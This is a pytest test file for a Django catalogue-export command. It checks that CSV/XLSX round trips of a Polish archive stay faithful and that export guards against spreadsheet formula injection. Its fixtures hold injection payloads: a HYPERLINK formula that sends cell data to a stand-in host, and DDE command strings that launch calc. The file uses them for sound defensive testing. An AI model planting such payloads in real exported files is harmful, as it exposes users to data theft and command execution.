"""export_catalogue: the import format, streamed, and a faithful round trip."""

import csv
import hashlib
import io

import pytest
from django.core.files.base import ContentFile
from django.core.management import call_command
from django.core.management.base import CommandError
from django.utils import translation
from openpyxl import load_workbook

from archive.importing import COLUMNS
from archive.models import Agent, Item, ItemCreator, Licence, Place, Status, Subject
from curation.models import Collection
from media.models import MediaFile
from tests.factories import (
    AgentFactory,
    CollectionFactory,
    CollectionItemFactory,
    ItemFactory,
    MediaFileFactory,
    PlaceFactory,
    SubjectFactory,
    image_bytes,
)

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def english():
    with translation.override("en"):
        yield


def build_catalogue() -> None:
    """A small catalogue with every kind of value the format carries."""
    churches = SubjectFactory(name="Kościoły", slug="koscioly")
    war = SubjectFactory(name="II wojna światowa", slug="ii-wojna-swiatowa")
    town = PlaceFactory(name="Mszczonów", slug="mszczonow")
    kowalski = AgentFactory(name="Jan Kowalski", slug="jan-kowalski")
    nowak = AgentFactory(name="Anna Nowak", slug="anna-nowak")
    photos = CollectionFactory(title="Zdjęcia dawne", slug="zdjecia-dawne")
    school = CollectionFactory(title="Dla szkół", slug="lekcje")  # slug is not the title's

    church = ItemFactory(
        identifier="MOK-F-0001",
        title='Kościół św. Jana, widok "od rynku"',
        title_en="St John's Church",
        date="ok. 1920",  # a phrase: stored as 1920~ with the phrase beside it
        description="Linia pierwsza,\nlinia druga; **pogrubienie**.",
        description_en="Two lines,\nof text.",
        licence=Licence.objects.get(code="CC-BY-4.0"),
        rights_holder="MOK",
        source="Album rodziny Nowaków",
        status=Status.PUBLISHED,
    )
    church.subjects.add(churches, war)
    church.places.add(town)
    ItemCreator.objects.create(item=church, agent=kowalski, order=0)
    ItemCreator.objects.create(item=church, agent=nowak, order=1)
    CollectionItemFactory(collection=photos, item=church)
    CollectionItemFactory(collection=school, item=church)
    MediaFileFactory(
        item=church,
        file=ContentFile(image_bytes(90, 70, "PNG", "navy"), name="kosciol.png"),
        alt_text="Kościół z wysoką wieżą",
        alt_text_en="A church with a tall tower",
    )

    plan = ItemFactory(
        identifier="MOK-M-0002",
        title="=Plan miasta",
        item_type="map",
        date="1942/1945",
        licence=Licence.objects.get(code="PDM"),
        status=Status.DRAFT,
    )
    plan.places.add(town)
    CollectionItemFactory(collection=photos, item=plan)
    MediaFileFactory(item=plan, alt_text="", file=ContentFile(image_bytes(), name="plan.jpg"))

    ItemFactory(identifier="MOK-T-0003", title="Dożynki", item_type="tradition", date="193X")


def snapshot() -> dict:
    """Everything the import format carries, keyed by identifier."""
    state = {}
    for item in Item.objects.order_by("identifier"):
        images = []
        for media in item.media_files.filter(kind="image"):
            with media.file.open("rb") as handle:
                digest = hashlib.sha256(handle.read()).hexdigest()
            images.append((digest, media.original_name, media.alt_text, media.alt_text_en))
        state[item.identifier] = {
            **{
                name: getattr(item, name)
                for name in (
                    "title",
                    "title_en",
                    "item_type",
                    "date",
                    "date_as_written",
                    "date_start",
                    "date_end",
                    "description",
                    "description_en",
                    "rights_holder",
                    "source",
                    "status",
                )
            },
            "licence": item.licence.code,
            "published": item.published_at is not None,
            "subjects": sorted(item.subjects.values_list("name", "slug")),
            "places": sorted(item.places.values_list("name", "slug")),
            "creators": [(c.agent.name, c.agent.slug) for c in item.item_creators.all()],
            "collections": sorted(item.collections.values_list("title", "slug")),
            "images": images,
        }
    return state


def empty_database() -> None:
    MediaFile.objects.all().delete()
    Item.objects.all().delete()
    for model in (Collection, Subject, Place, Agent):
        model.objects.all().delete()


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_export_then_import_into_an_empty_database_reproduces_the_catalogue(tmp_path, suffix):
    build_catalogue()
    before = snapshot()
    path = tmp_path / f"katalog.{suffix}"
    out = io.StringIO()
    call_command("export_catalogue", str(path), stdout=out)
    assert "Exported 3 items and 2 images" in out.getvalue()

    empty_database()
    assert Item.objects.count() == 0
    call_command("import_catalogue", str(path), stdout=io.StringIO())
    after = snapshot()
    # Collections are rebuilt from their reference: a title round-trips whole; a collection
    # whose slug is not its title's comes back titled by its slug.
    assert ("Dla szkół", "lekcje") in before["MOK-F-0001"]["collections"]
    before["MOK-F-0001"]["collections"].remove(("Dla szkół", "lekcje"))
    after["MOK-F-0001"]["collections"].remove(("lekcje", "lekcje"))
    assert after == before


def test_exported_csv_has_the_import_columns_and_copies_first_images(tmp_path):
    build_catalogue()
    path = tmp_path / "katalog.csv"
    call_command("export_catalogue", str(path), stdout=io.StringIO())
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert list(rows[0]) == list(COLUMNS)
    church = next(r for r in rows if r["identifier"] == "MOK-F-0001")
    assert church["subjects"] == "II wojna światowa;Kościoły"
    assert church["creators"] == "Jan Kowalski;Anna Nowak"
    assert set(church["collections"].split(";")) == {"Zdjęcia dawne", "lekcje"}
    assert (church["licence"], church["status"], church["date"]) == (
        "CC-BY-4.0",
        "published",
        "1920~",
    )
    assert church["date_as_written"] == "ok. 1920"
    assert church["image"] == "katalog_media/MOK-F-0001/kosciol.png"
    assert church["alt_text"] == "Kościół z wysoką wieżą"
    copied = (tmp_path / church["image"]).read_bytes()
    media = MediaFile.objects.get(item__identifier="MOK-F-0001")
    assert hashlib.sha256(copied).hexdigest() == media.checksum
    undated = next(r for r in rows if r["identifier"] == "MOK-T-0003")
    assert (undated["image"], undated["alt_text"]) == ("", "")


def test_xlsx_export_keeps_formula_like_text_as_text(tmp_path):
    build_catalogue()
    path = tmp_path / "katalog.xlsx"
    call_command("export_catalogue", str(path), stdout=io.StringIO())
    workbook = load_workbook(path)
    sheet = workbook.worksheets[0]
    assert [c.value for c in sheet[1]] == list(COLUMNS)
    titles = {row[0].value: row[1] for row in sheet.iter_rows(min_row=2)}
    assert titles["MOK-M-0002"].value == "=Plan miasta"
    assert titles["MOK-M-0002"].data_type == "s"


def test_export_refuses_unknown_extension(tmp_path):
    with pytest.raises(CommandError, match=r"must end in \.csv or \.xlsx"):
        call_command("export_catalogue", str(tmp_path / "katalog.ods"))
    assert list(tmp_path.iterdir()) == []


def test_export_of_empty_catalogue_writes_only_the_header(tmp_path):
    path = tmp_path / "pusty.csv"
    call_command("export_catalogue", str(path), stdout=io.StringIO())
    assert path.read_text(encoding="utf-8-sig").splitlines() == [",".join(COLUMNS)]


# --- formulas (OWASP CSV injection) -----------------------------------------------------------

FORMULA_LIKE = {
    "title": '=HYPERLINK("http://zly.example/?"&A1,"Kliknij")',
    "title_en": "+cmd|' /C calc'!A0",
    "description": "- punkt listy\n- drugi punkt",  # Markdown list: must come back as it was
    "description_en": "@SUM(1+1)*cmd|' /C calc'!A0",
    "rights_holder": "'=already quoted",  # really begins with an apostrophe
    "source": "\r=carriage return",
    "date": "-0500",  # 500 BC
}
PLAIN = {"title": "'apostrof na początku", "title_en": "'", "source": "tab\tinside = fine"}


def formula_catalogue() -> None:
    ItemFactory(identifier="MOK-X-0001", status=Status.DRAFT, **FORMULA_LIKE)
    ItemFactory(identifier="MOK-X-0002", status=Status.DRAFT, **PLAIN)


def test_csv_export_writes_no_cell_a_spreadsheet_would_run(tmp_path):
    formula_catalogue()
    path = tmp_path / "katalog.csv"
    call_command("export_catalogue", str(path), stdout=io.StringIO())
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = {row["identifier"]: row for row in csv.DictReader(handle)}
    cells = [value for row in rows.values() for value in row.values()]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    guarded = rows["MOK-X-0001"]
    assert guarded["title"] == "'" + FORMULA_LIKE["title"]
    assert guarded["date"] == "'-0500"
    assert guarded["rights_holder"] == "''=already quoted"
    plain = rows["MOK-X-0002"]
    assert {name: plain[name] for name in PLAIN} == PLAIN  # nothing added where not needed


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_formula_like_values_round_trip_unchanged(tmp_path, suffix):
    formula_catalogue()
    fields = sorted({*FORMULA_LIKE, *PLAIN})
    before = {i.identifier: [getattr(i, f) for f in fields] for i in Item.objects.all()}
    path = tmp_path / f"katalog.{suffix}"
    call_command("export_catalogue", str(path), stdout=io.StringIO())
    empty_database()
    call_command("import_catalogue", str(path), stdout=io.StringIO())
    after = {i.identifier: [getattr(i, f) for f in fields] for i in Item.objects.all()}
    if suffix == "xlsx":  # XLSX keeps no control characters; the importer trims cells
        before["MOK-X-0001"][fields.index("source")] = "=carriage return"
    assert after == before
    assert Item.objects.get(identifier="MOK-X-0001").date_start == -500


def test_guard_and_unguard_are_inverse_for_every_start():
    from archive.formulas import guard_formula, unguard_formula

    starts = ["", "'", "''", "a", " ", "=", "+", "-", "@", "\t", "\r", "'=", "''-", "'a"]
    for start in starts:
        for rest in ("", "x", "=1"):
            value = start + rest
            assert unguard_formula(guard_formula(value)) == value, repr(value)
